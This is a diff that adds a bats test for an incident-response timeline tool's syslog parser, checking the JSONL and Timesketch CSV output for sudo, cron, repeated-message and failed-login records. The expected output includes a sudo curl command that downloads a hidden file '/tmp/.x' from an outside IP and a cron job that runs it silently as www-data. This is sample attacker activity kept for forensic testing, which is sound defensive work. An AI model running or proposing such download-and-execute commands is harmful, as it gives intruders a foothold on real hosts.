@@ -233,6 +233,27 @@ make_tree_body() {
 	assert_contains "$output" 'modern.log:3: impossible date'
 }
 
+@test "syslog: continuation lines, markers, fractions, sudo and cron" {
+	run irt timeline --year 2026 --format jsonl "syslog:$DATA/forms.log"
+	[ "$status" -eq 0 ]
+	assert_contains "$output" '"time":"2026-03-04T05:06:07.250Z"'
+	assert_contains "$output" '"message":"kernel: BUG: unable to handle page fault\n  RIP: 0010:0xffffffffc0ffee00\n\tCall Trace:"'
+	assert_contains "$output" '"message":"--- last message repeated 2 times ---","fields":{"hostname":"web01","repeated":"2"}'
+	assert_contains "$output" '"type":"syslog:comment"'
+	assert_contains "$output" '"type":"syslog:sudo"'
+	assert_contains "$output" '"user":"alice","target_user":"root","tty":"pts/0","pwd":"/home/alice","command":"/usr/bin/curl -o /tmp/.x http://198.51.100.9/x"'
+	assert_contains "$output" '"type":"syslog:cron"'
+	assert_contains "$output" '"user":"www-data","command":"/tmp/.x >/dev/null 2>&1"'
+	assert_contains "$output" '"time":"2026-03-04T04:06:12.500Z"'
+	assert_contains "$output" '"repeated":"3","result":"failed","method":"password","user":"root","src_ip":"203.0.113.9"'
+	assert_contains "$output" 'forms.log:10: not a syslog line, skipped'
+	assert_contains "$output" '7 events from 1 sources, 7 records written, 1 warnings'
+	# the sudo command and its fields in Timesketch's CSV
+	run irt timeline -q --year 2026 --format timesketch-csv "syslog:$DATA/forms.log"
+	assert_contains "$output" 'target_user'
+	assert_contains "$output" '/usr/bin/curl -o /tmp/.x http://198.51.100.9/x'
+}
+
 @test "utmp: 384 and 400-byte records, corrupt record skipped by offset" {
 	python3 - "$TMP" <<'EOF'
 import socket, struct, sys
